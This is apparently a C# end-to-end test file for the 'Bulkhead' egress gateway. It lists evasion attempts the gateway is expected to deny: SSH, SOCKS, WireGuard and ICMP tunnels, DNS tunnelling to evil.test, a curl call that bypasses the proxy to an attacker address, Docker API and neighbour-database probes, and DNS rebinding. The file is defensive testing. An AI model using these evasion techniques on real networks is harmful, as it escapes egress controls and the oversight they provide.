using System.Net;
using System.Net.Sockets;
using System.Text;
using Bulkhead.Gateway.Tests.Hellos;

namespace Bulkhead.Gateway.EndToEnd.Evasion;

/// <summary>Other protocols, name servers of others, and shared tenancy.</summary>
internal static class OtherRows
{
    private const string NoRule = "denied no_rule";
    private const string Other = "denied proto_other";
    private const string To = TestBench.AttackerAddress;
    private const string To6 = TestBench.AttackerAddress6;

    // A question for A of 0123.t.evil.test, as a tunnel would ask.
    private static readonly byte[] Question = [0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 4, .. "0123"u8, 1, .. "t"u8, 4, .. "evil"u8, 4, .. "test"u8, 0, 0, 16, 0, 1];

    public static IEnumerable<EvasionRow> All => [.. Protocols, .. Dns, .. Tenancy];

    private static IEnumerable<EvasionRow> Protocols =>
    [
        new("X-05", "UDP 443 is refused aloud", "packet proto_udp", static attempt => AloudAsync(attempt, To)),
        new("X-05", "UDP 443 over IPv6 is refused aloud", "packet proto_udp", static attempt => AloudAsync(attempt, To6)),
        new("X-05", "UDP 443 to an allowed server", "packet proto_udp", static attempt => AloudAsync(attempt, TestBench.OriginAddress)),
        new("X-07", "SSH on 443", Other, static attempt => attempt.TextAsync("SSH-2.0-OpenSSH_9.2\r\n", port: 443)),
        new("X-07", "SSH on 22", Other, static attempt => attempt.TextAsync("SSH-2.0-OpenSSH_9.2\r\n", port: 22)),
        new("X-07", "OpenVPN over TCP", Other, static attempt => attempt.SendAsync(To, 443, [0, 14, 0x38, 1, 2, 3, 4, 5, 6, 7, 8, 0, 0, 0, 0, 0])),
        new("X-07", "SOCKS 5", Other, static attempt => attempt.SendAsync(To, 1080, [5, 1, 0])),
        new("X-07", "SOCKS 4", Other, static attempt => attempt.SendAsync(To, 1080, [4, 1, 1, 0xbb, 203, 0, 113, 66, 0])),
        new("X-07", "BitTorrent", Other, static attempt => attempt.SendAsync(To, 6881, [19, .. "BitTorrent protocol"u8, 0, 0, 0, 0, 0, 0, 0, 0])),
        new("X-07", "HTTP/2 with prior knowledge", Other, static attempt => attempt.TextAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", port: 80)),
        new("X-07", "WireGuard", "packet proto_udp", static attempt => UdpAsync(attempt, To, 51820, [1, 0, 0, 0, .. new byte[144]])),
        new("X-07", "WireGuard over IPv6", "packet proto_udp", static attempt => UdpAsync(attempt, To6, 51820, [1, 0, 0, 0, .. new byte[144]])),
        new("X-08", "ping", "packet proto_icmp", static attempt => RawAsync(attempt, To, (int)ProtocolType.Icmp, [8, 0, 0xf7, 0xff, 0, 0, 0, 0])),
        new("X-08", "ping of the gateway", "packet proto_icmp", static attempt => RawAsync(attempt, TestBench.GatewayAddress, (int)ProtocolType.Icmp, [8, 0, 0xf7, 0xff, 0, 0, 0, 0])),
        new("X-08", "ping over IPv6", "packet proto_icmp", static attempt => RawAsync(attempt, To6, (int)ProtocolType.IcmpV6, [128, 0, 0, 0, 0, 0, 0, 0])),
        new("X-08", "an unasked echo reply with data", "packet proto_icmp", static attempt => RawAsync(attempt, To, (int)ProtocolType.Icmp, [0, 0, 0xff, 0xff, 0, 0, 0, 0, .. new byte[512]])),
        .. new[] { 4, 47, 50, 132, 136, 253 }.SelectMany(static protocol => (EvasionRow[])
        [
            new("X-09", $"protocol {protocol}", "packet proto_other", attempt => RawAsync(attempt, To, protocol, new byte[64])),
            new("X-09", $"protocol {protocol} over IPv6", "packet proto_other", attempt => RawAsync(attempt, To6, protocol, new byte[64])),
        ]),
        new("X-09", "fragments", "packet proto_udp", static attempt => UdpAsync(attempt, To, 9, new byte[8000])),
        new("X-10", "a client that knows of no proxy, on any port", NoRule, static async attempt =>
        {
            foreach (var port in (int[])[443, 8443, 993, 5432, 6667, 65535])
            {
                await attempt.HelloAsync(HelloParts.Named("evil.test"), port: port);
            }
        }) { Decisions = 6 },
        new("X-10", "a client that was told of no proxy", NoRule, static attempt => attempt.ToolAsync(string.Empty, "curl", "-sk", "-m", "10", "--noproxy", "*", "--resolve", $"evil.test:443:{To}", "https://evil.test/")) { Needs = ["curl"] },
        new("X-12", "a data store of others in the same network", Other, static attempt => attempt.SendAsync("10.0.0.5", 5432, [0, 0, 0, 8, 4, 0xd2, 0x16, 0x2f])),
        new("X-12", "the API of a cluster", "denied name_missing", static attempt => attempt.HelloAsync(new HelloParts { Extensions = [(43, [2, 3, 4])] }, "10.96.0.1")),
        new("X-12", "a socket of docker over TCP", "denied name_ip_literal", static attempt => attempt.TextAsync("GET /containers/json HTTP/1.1\r\nHost: 10.77.1.1:2375\r\n\r\n", TestBench.GatewayAddress, 2375)),
        new("X-13", "a segment of a connection that nobody opened", "packet proto_other", static attempt => RawAsync(attempt, To, 6, Segment(flags: 0x18))),
        new("X-13", "SYN and ACK without a SYN", "packet proto_other", static attempt => RawAsync(attempt, To, 6, Segment(flags: 0x12))),
        new("X-13", "the port of the gateway itself", "packet proto_other", static attempt => SilentConnectAsync(attempt, TestBench.GatewayAddress, 15001)),
    ];

    private static IEnumerable<EvasionRow> Dns =>
    [
        new("DNS-05", "DNS over TLS", NoRule, static attempt => attempt.HelloAsync(HelloParts.Named("dns.evil.test"), port: 853)),
        new("DNS-05", "DNS over TLS without a name", "denied name_missing", static attempt => attempt.HelloAsync(new HelloParts { Extensions = [(43, [2, 3, 4]), (16, HelloBytes.Alpn("dot"))] }, port: 853)),
        new("DNS-05", "DNS over QUIC", "packet proto_udp", static attempt => UdpAsync(attempt, To, 853, new byte[1200])),
        new("DNS-05", "DNS over HTTPS", NoRule, static attempt => attempt.HelloAsync(HelloParts.Named("doh.evil.test"))),
        new("DNS-07", "public when asked first, private when asked again", "allowed; denied address_denied_range", static async attempt =>
        {
            var name = attempt.Bench.FreshName();
            attempt.Bench.Dns.Zone[name] = static times => times == 0 ? [TestBench.OriginAddress] : ["127.0.0.1"];
            await attempt.GetAsync(name);
            var asked = attempt.Bench.Dns.Asked.Count;
            await Eventually.SeeAsync(() => Again(attempt, name, asked), () => "the gateway did not ask again", 30);
        }),
        new("DNS-07", "private beside public", "allowed", static async attempt =>
        {
            var name = attempt.Bench.Dns.Set(attempt.Bench.FreshName(), "127.0.0.1", TestBench.OriginAddress, "10.0.0.5");
            Assert.Contains("hello", await attempt.GetAsync(name), StringComparison.Ordinal);
        }),
        new("DNS-09", "a stale address of the client does no harm", "allowed", static async attempt => await attempt.GetAsync("allowed.example", "198.51.100.99")),
        new("DNS-11", "a denied name at the address of an allowed one", NoRule, static attempt => attempt.HelloAsync(HelloParts.Named("evil.test"), TestBench.OriginAddress)),
        new("DNS-14", "mDNS", "packet proto_udp", static attempt => UdpAsync(attempt, To, 5353, Question)),
        new("DNS-14", "LLMNR", "packet proto_udp", static attempt => UdpAsync(attempt, To, 5355, Question)),
        new("DNS-14", "NetBIOS", "packet proto_udp", static attempt => UdpAsync(attempt, To, 137, Question)),
    ];

    private static IEnumerable<EvasionRow> Tenancy =>
    [
        new("TEN-01", "a wildcard over everybody's names is not generated", "nobody", static async _ =>
        {
            var folder = Directory.CreateTempSubdirectory("bulkhead-ten-").FullName;
            await File.WriteAllTextAsync(Path.Combine(folder, "librechat.yaml"), Deployment.LibreChat);
            await File.WriteAllTextAsync(Path.Combine(folder, "bulkhead.yaml"), Deployment.Settings.Replace("*.wild.example", "*.co.uk", StringComparison.Ordinal));
            var generated = await Shell.RunAsync(Path.Combine(AppContext.BaseDirectory, "bulkhead"), ["generate", "--out", "out"], null, folder);
            Assert.Contains("BH4009", generated.Error, StringComparison.Ordinal);
            Assert.False(Directory.Exists(Path.Combine(folder, "out")));
            Directory.Delete(folder, recursive: true);
        }),
        new("TEN-06", "a denied name at the address of an allowed server", NoRule, static attempt => attempt.HelloAsync(HelloParts.Named("other-tenant.example"), TestBench.OriginAddress)),
        new("TEN-07", "the name above a wildcard", NoRule, static attempt => attempt.HelloAsync(HelloParts.Named("wild.example"))),
        new("TEN-07", "a name two labels below a wildcard", NoRule, static attempt => attempt.HelloAsync(HelloParts.Named("a.b.wild.example"))),
        new("TEN-08", "data in labels below a wildcard leaves no question before a hello", "nobody", static async attempt =>
        {
            var asked = attempt.Bench.Dns.Asked.Count;
            await attempt.ReadAsync(await attempt.ConnectAsync(To));
            await attempt.DecidedAsync(1);
            Assert.Equal(asked, attempt.Bench.Dns.Asked.Count);
        }),
    ];

    private static string? Again(Attempt attempt, string name, int asked)
    {
        attempt.HelloAsync(HelloParts.Named(name)).GetAwaiter().GetResult();
        return attempt.Bench.Dns.Asked.Count > asked && attempt.Decisions.Any(static decision => decision.Text != "allowed") ? name : null;
    }

    private static async Task AloudAsync(Attempt attempt, string address)
    {
        using var socket = attempt.Bench.Pod.Socket(IPAddress.Parse(address).AddressFamily, SocketType.Dgram, ProtocolType.Udp);
        await socket.ConnectAsync(IPAddress.Parse(address), 443);
        await socket.SendAsync(new byte[1200], SocketFlags.None);
        using var patience = new CancellationTokenSource(TimeSpan.FromSeconds(10));
        await Assert.ThrowsAsync<SocketException>(async () => await socket.ReceiveAsync(new byte[100], SocketFlags.None, patience.Token));
    }

    private static async Task UdpAsync(Attempt attempt, string address, int port, byte[] data)
    {
        using var socket = attempt.Bench.Pod.Socket(IPAddress.Parse(address).AddressFamily, SocketType.Dgram, ProtocolType.Udp);
        await CountedAsync(attempt, "proto_udp", () => socket.SendTo(data, new IPEndPoint(IPAddress.Parse(address), port)));
    }

    private static async Task RawAsync(Attempt attempt, string address, int protocol, byte[] data)
    {
        var end = new IPEndPoint(IPAddress.Parse(address), 0);
        using var socket = attempt.Bench.Pod.Raw(end.AddressFamily, protocol);
        await CountedAsync(attempt, protocol is 1 or 58 ? "proto_icmp" : "proto_other", () => socket.SendTo(data, end));
    }

    private static async Task SilentConnectAsync(Attempt attempt, string address, int port)
    {
        using var enough = new CancellationTokenSource();
        using var socket = attempt.Bench.Pod.Socket(AddressFamily.InterNetwork);
        Task? connecting = null;
        await CountedAsync(attempt, "proto_other", () => connecting = socket.ConnectAsync(new IPEndPoint(IPAddress.Parse(address), port), enough.Token).AsTask());
        await enough.CancelAsync();
        await connecting!.ContinueWith(static _ => { }, TaskScheduler.Default);
    }

    private static async Task CountedAsync(Attempt attempt, string counter, Action send)
    {
        var before = attempt.Bench.Stopped(counter);
        send();
        await Eventually.SeeAsync(() => attempt.Bench.Stopped(counter) > before ? counter : null, () => $"the packet rules did not count anything as {counter}");
    }

    private static byte[] Segment(byte flags) => [0x9c, 0x40, 0x01, 0xbb, 0, 0, 0, 1, 0, 0, 0, 1, 0x50, flags, 0x20, 0, 0, 0, 0, 0, .. Encoding.ASCII.GetBytes("secret")];
}
